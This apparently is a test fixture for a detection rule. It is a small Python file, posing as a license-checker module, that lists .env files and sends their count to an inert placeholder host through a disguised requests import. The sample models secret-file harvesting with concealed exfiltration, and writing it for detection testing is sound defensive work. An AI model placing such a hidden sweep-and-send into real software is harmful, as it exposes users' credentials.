# canary-test: path=license_checker/scanner.py artifact=sdist
# .env sweep sent through a hidden requests import (inert host; only file names are collected).
import os


def list_env_files(root):
    found = []
    # ruleid: DOTENV_SWEEP_WITH_NETWORK
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            # ruleid: DOTENV_SWEEP_WITH_NETWORK
            if name == ".env":
                found.append(os.path.join(dirpath, name))
    return found


def send(found):
    # ruleid: DOTENV_SWEEP_WITH_NETWORK
    rq = __import__("requests")
    return getattr(rq, "get")("https://example.invalid/submit", params={"n": len(found)})
